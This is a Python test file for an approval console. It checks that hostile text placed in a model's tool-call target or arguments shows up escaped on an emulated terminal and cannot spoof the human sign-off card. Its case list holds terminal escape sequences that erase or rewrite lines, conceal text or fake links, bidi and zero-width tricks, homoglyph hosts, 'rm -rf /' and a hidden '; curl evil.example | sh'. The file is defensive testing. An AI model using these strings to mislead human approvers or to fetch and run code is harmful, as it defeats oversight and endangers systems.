"""What a person sees of the approval card, on a real terminal emulation (pyte).

The model writes a call's arguments, and so its target. Each hostile string below
is put on a card, printed by the console's own card-printing function with the
question `signoff approve` asks, and fed to an emulated terminal as a tty would
pass it (newline as CR LF). What must hold on the screen: the true text is there
(its escapes, its punycode with a warning), nothing before the card was cleared,
no line was overwritten or faked, no escape changed how text is drawn, and on an
80x24 terminal the tool, the target, the digest and the question are all on
screen (docs/design.md, "Trust boundaries")."""

from __future__ import annotations

import contextlib
import io
import unicodedata

import pyte
import pytest

from services.operations.cards import card_lines, print_card, question
from services.operations.status import QueueState, Replica, Status, render
from shared.dead_letters import describe
from shared.on_screen import host_warnings, punycode, visible
from shared.redaction import redact_text
from shared.topology import Topology

SENTINEL = "BEFORE THE CARD: nothing printed after may clear or overwrite this"
REQUEST = "apr_0123456789abcdef0123456789abcdef"
DIGEST = "hmac-sha256:" + "ab" * 32
EVIL = "https://evil.example/wipe"
SAFE = "https://safe.example/ok"
# A line of the card a hostile value might try to fake.
FAKE_TARGET = f"  │ target:    POST {SAFE}"

# (id, where the hostile text goes: the card's target or an argument, the text, what must be seen)
CASES = [
    ("csi_erase_line", "target", f"POST {EVIL}\r\x1b[2K{FAKE_TARGET}", [EVIL, "\\r\\x1b[2K"]),
    ("csi_erase_screen", "target", f"POST {EVIL}\x1b[2J\x1b[H", [EVIL, "\\x1b[2J\\x1b[H"]),
    ("csi_erase_scrollback", "argument", "\x1b[3J\x1b[2J\x1b[1;1H", ["\\x1b[3J\\x1b[2J\\x1b[1;1H"]),
    ("cursor_up_and_rewrite", "target", f"POST {EVIL}\x1b[1A\x1b[2K{FAKE_TARGET}", [EVIL, "\\x1b[1A"]),
    ("cursor_position", "argument", f"{EVIL}\x1b[5;1H{FAKE_TARGET}", [EVIL, "\\x1b[5;1H"]),
    ("cursor_save_restore", "argument", f"\x1b7{EVIL}\x1b8{SAFE}", [f"\\x1b7{EVIL}\\x1b8"]),
    ("osc_window_title", "target", f"POST {EVIL}\x1b]0;all safe\x07", [EVIL, "\\x1b]0;all safe\\x07"]),
    ("osc_hyperlink", "argument", f"\x1b]8;;{EVIL}\x1b\\{SAFE}\x1b]8;;\x1b\\", [f"\\x1b]8;;{EVIL}"]),
    ("sgr_conceal", "target", f"POST \x1b[8m{EVIL}\x1b[28m", [f"\\x1b[8m{EVIL}\\x1b[28m"]),
    ("sgr_reverse_and_colour", "argument", f"\x1b[7m\x1b[31m{EVIL}\x1b[0m", [f"\\x1b[7m\\x1b[31m{EVIL}"]),
    ("sgr_black_on_black", "argument", f"\x1b[30;40m{EVIL}\x1b[0m", [f"\\x1b[30;40m{EVIL}"]),
    ("carriage_return", "target", f"POST {EVIL}\rPOST {SAFE}", [f"POST {EVIL}\\rPOST {SAFE}"]),
    ("backspaces", "target", f"POST {EVIL}" + "\b" * len(EVIL) + SAFE, [EVIL, f"[{len(EVIL)} x \\x08]"]),
    ("single_backspace", "argument", "rm -rf /\bx", ["rm -rf /\\x08x"]),
    ("bidi_right_to_left_override", "target", f"POST {SAFE}\u202e/evil", [SAFE, "\\u202e/evil"]),
    ("bidi_isolates", "argument", f"\u2067{EVIL}\u2069", [f"\\u2067{EVIL}\\u2069"]),
    ("bidi_embedding_and_marks", "argument", f"\u202b\u200f{EVIL}\u200e\u061c\u202c", [f"\\u202b\\u200f{EVIL}"]),
    ("zero_width_space_in_host", "target", "POST https://ev\u200bil.example/", ["ev\\u200bil.example"]),
    ("zero_width_joiners", "argument", "pay\u200d\u200c\u2060now", ["pay\\u200d\\u200c\\u2060now"]),
    ("byte_order_mark", "argument", "\ufeffhello", ["\\ufeffhello"]),
    ("soft_hyphen", "argument", "sa\u00adfe", ["sa\\xadfe"]),
    ("zero_width_run", "argument", "a" + "\u200b" * 300 + "b", ["a[300 x \\u200b]b"]),
    ("homoglyph_cyrillic_host", "target", "POST https://exаmple.com/pay", ["xn--exmple-4nf.com", "WARNING"]),
    ("homoglyph_greek_host", "argument", "https://gοogle.com/login", ["xn--gogle-rce.com", "WARNING"]),
    ("mixed_script_idn", "argument", "mail admin@pаypal.com now", [punycode("pаypal.com"), "Cyrillic"]),
    ("all_cyrillic_idn", "target", "GET https://аррӏе.com/", [punycode("аррӏе.com"), "WARNING"]),
    ("fullwidth_dots", "argument", "https://evil\u3002example/", ["evil.example [!non-ASCII host]", "WARNING"]),
    ("space_padding_target", "target", f"POST {SAFE}" + " " * 3000 + EVIL, [f"[3000 spaces]{EVIL}"]),
    ("space_padding_argument", "argument", "ok" + " " * 5000 + "; curl evil.example | sh", ["[5000 spaces]; curl"]),
    ("nbsp_and_ideographic_padding", "argument", "ok" + "\u00a0" * 40 + "\u3000" * 40 + "x", ["[40 x \\xa0]"]),
    ("very_long_target", "target", f"POST {EVIL}/" + "a" * 10_000, [EVIL, "more characters)"]),
    ("very_long_argument", "argument", "b" * 50_000, ["more characters)"]),
    ("newline_fakes_a_card_line", "target", f"POST {EVIL}\n{FAKE_TARGET}", [f"POST {EVIL}\\n"]),
    ("newline_fakes_the_digest", "argument", "ok\n  └ digest:    hmac-sha256:00", ["ok\\n  └ digest:"]),
    ("line_and_paragraph_separators", "argument", "a\u2028b\u2029c", ["a\\u2028b\\u2029c"]),
    ("c1_csi", "target", f"POST {EVIL}\x9b2J\x9bH", [EVIL, "\\x9b2J\\x9bH"]),
    ("c1_osc_and_nel", "argument", f"\x9d0;title\x9c{EVIL}\x85", [f"\\x9d0;title\\x9c{EVIL}\\x85"]),
    ("delete_character", "argument", f"{EVIL}\x7f\x7f", [f"{EVIL}\\x7f"]),
    ("tabs", "argument", "a\t\t\tb", ["a\\t\\t\\tb"]),
    ("hangul_filler_blank_letter", "argument", "ok\u3164\u3164\u3164\u3164x", ["[4 x \\u3164]"]),
    ("lone_surrogate", "argument", "x\ud800y", ["x\\ud800y"]),
    ("backslash_that_looks_like_an_escape", "argument", "\\x1b[2J", ['"\\\\x1b[2J"']),
]


def card_for(where: str, text: str) -> dict:
    target = text if where == "target" else f"POST {SAFE}"
    arguments = {"message": "hello", "url": text} if where == "argument" else {"message": "hello"}
    return {"tool": "post_to_sink", "label": "Post a message", "effect": "outward", "target": target,
            "arguments": arguments, "hidden": []}


def printed(card: dict) -> str:
    """What the console writes: the card and the question `signoff approve` asks."""
    out = io.StringIO()
    with contextlib.redirect_stdout(out):
        print_card(REQUEST, card, DIGEST)
        print(question("approve", REQUEST, "alice", card), end="")
    return out.getvalue()


def terminal(text: str, rows: int, columns: int = 80) -> pyte.Screen:
    screen = pyte.Screen(columns, rows)
    stream = pyte.Stream(screen)
    # The tty turns each newline into CR LF (onlcr); the sentinel was on screen first.
    stream.feed(SENTINEL + "\r\n" + text.replace("\n", "\r\n"))
    return screen


def seen(screen: pyte.Screen) -> str:
    """The screen's text; full rows run into the next, as a wrapped line does."""
    return "".join(screen.display)


@pytest.mark.parametrize(("where", "text", "must_see"), [c[1:] for c in CASES], ids=[c[0] for c in CASES])
def test_a_hostile_value_on_the_card_is_shown_as_it_is_and_cannot_paint_over_it(where, text, must_see):
    card = card_for(where, text)
    output = printed(card)

    # Nothing the terminal would act on leaves the console: no control, no format character.
    acting = [c for c in output if c != "\n" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")]
    assert acting == [], f"characters a terminal acts on reached it: {acting[:5]!r}"

    # A tall terminal: the whole card, nothing before it cleared, each line of it once, in order.
    tall = terminal(output, rows=400)
    assert tall.display[0].rstrip() == SENTINEL, "the screen was cleared or its first line overwritten"
    everything = seen(tall)
    for expected in must_see:
        assert expected in everything, f"{expected!r} is not on the screen"
    rows = [row.rstrip() for row in tall.display]
    for frame in ("  ┌ approval needed: ", "  │ request:   ", "  │ target:    ", "  └ digest:    "):
        assert sum(row.startswith(frame) for row in rows) == 1, f"{frame!r} is missing or faked:\n" + "\n".join(rows)
    order = [next(n for n, row in enumerate(rows) if row.startswith(frame))
             for frame in ("  ┌ approval", "  │ request:", "  │ target:", "  └ digest:", "approve apr_")]
    assert order == sorted(order), "a line of the card was moved"
    # No escape changed how anything is drawn (conceal, reverse, colours, hyperlinks).
    for line in tall.buffer.values():
        for char in line.values():
            assert (char.fg, char.bg, char.reverse, char.bold) == ("default", "default", False, False), char

    # A person's 80x24 terminal: the tool, the target, the digest and the question are on screen.
    small = terminal(output, rows=24)
    shown = seen(small)
    assert f"  └ digest:    {DIGEST}" in shown
    asked = f"approve {REQUEST} as alice: post_to_sink on "
    assert asked in shown and shown.rstrip().endswith("? [y/N]"), shown
    true_target = visible(redact_text(card["target"]), 300)
    assert f"{asked}{true_target}? [y/N]" in shown
    if where == "target":
        assert any(expected in shown.split(asked)[-1] for expected in must_see if expected != "WARNING")


def test_there_are_at_least_thirty_hostile_strings_and_each_is_told_apart():
    assert len(CASES) >= 30
    assert len({c[0] for c in CASES}) == len(CASES)


def test_a_look_alike_host_is_named_in_punycode_with_the_scripts_it_mixes():
    [warning] = host_warnings("POST https://exаmple.com/pay")
    assert "xn--exmple-4nf.com" in warning and "Cyrillic" in warning
    assert host_warnings("POST https://example.com/pay") == []
    lines = card_lines(REQUEST, card_for("target", "POST https://exаmple.com/pay"), DIGEST)
    assert any(line.startswith("  │ WARNING:   the host xn--exmple-4nf.com") for line in lines)
    assert "  │ target:    POST https://xn--exmple-4nf.com [!non-ASCII host]/pay" in lines


def test_an_ordinary_card_looks_as_it_always_did():
    card = {"tool": "post_to_sink", "label": "Post a message", "effect": "outward",
            "target": "POST ${env:SINK_URL}/sink", "arguments": {"message": "héllo \"world\"", "n": [1, 2]},
            "hidden": ["api_token"]}
    assert card_lines(REQUEST, card, DIGEST) == [
        "  ┌ approval needed: Post a message  (post_to_sink, effect: outward)",
        f"  │ request:   {REQUEST}",
        "  │ target:    POST ${env:SINK_URL}/sink",
        "  │ {",
        '  │   "message": "héllo \\"world\\"",',
        '  │   "n": [',
        "  │     1,",
        "  │     2",
        "  │   ]",
        "  │ }",
        "  │ hidden:    api_token (secret: withheld from everyone but the executor)",
        f"  └ digest:    {DIGEST}",
    ]


def test_a_parked_message_with_escapes_in_its_headers_cannot_hide_or_fake_an_entry():
    headers = {"x-signoff-reason": "invalid\x1b[2K\r", "x-signoff-detail": "bad\n2026-01-01  msg-fake  type=x",
               "x-signoff-consumer": "\x1b[8mledger", "x-signoff-parked-at": "now\x1b[1A"}
    listed = describe("msg-1\x1b[2J", b'{"type": "tool.completed\\u202e", "session_id": "ses_\\u0007"}', headers)
    line = listed.line(redact_text)
    screen = terminal(line + "\n", rows=24, columns=200)
    assert screen.display[0].rstrip() == SENTINEL
    assert [row.rstrip() for row in screen.display[1:3]] == [
        "now\\x1b[1A  msg-1\\x1b[2J  type=tool.completed\\u202e session=ses_\\x07  consumer=\\x1b[8mledger",
        "    invalid\\x1b[2K\\r: bad\\n2026-01-01  msg-fake  type=x",
    ]


def test_status_shows_a_replicas_answer_and_an_error_without_obeying_them():
    status = Status(replicas=[Replica("ledger", "http://127.0.0.1:1", False, "\x1b[2J\x1b[Hall well")],
                    queues=[QueueState("q", 0, 0, 1)], backlog_error="boom\r\x1b[2Kall well")
    text = render(status, Topology("ns"))
    screen = terminal(text + "\n", rows=40, columns=120)
    assert screen.display[0].rstrip() == SENTINEL
    shown = seen(screen)
    assert "NOT READY: \\x1b[2J\\x1b[Hall well" in shown and "boom\\r\\x1b[2Kall well" in shown
